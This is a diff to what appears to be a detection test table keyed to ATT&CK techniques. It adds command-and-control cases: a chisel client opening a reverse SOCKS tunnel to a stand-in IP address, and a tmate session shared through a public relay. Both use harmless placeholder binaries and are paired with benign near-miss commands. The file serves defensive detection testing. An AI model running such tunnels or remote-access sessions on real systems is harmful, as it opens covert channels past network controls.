@@ -493,6 +493,17 @@ ROWS = [
         trigger="ls -la /sys/fs/bpf >/dev/null",
         near="bpftool prog show >/dev/null",
         why="the BPF filesystem listed by ls vs BPF state listed by bpftool"),
+    # ---------------------------------------------------------------- command and control
+    Row("tunnel-tool-run", "TA0011 T1572",
+        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/chisel",
+        trigger="@T@/bin/chisel client 198.51.100.7:8080 R:socks",
+        near="ssh -V",
+        why="a tunnel/SOCKS pivot dropped on the host (by name) vs the SSH client"),
+    Row("remote-access-tool-run", "TA0011 T1219",
+        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/tmate",
+        trigger="@T@/bin/tmate -F new-session",
+        near="tmux -V",
+        why="tmate shares the terminal through a public relay vs tmux, the local multiplexer"),
     # ---------------------------------------------------------------- exfiltration, collection
     Row("network-file-copy", "TA0010 T1048",
         setup="echo report > @T@/report.txt",
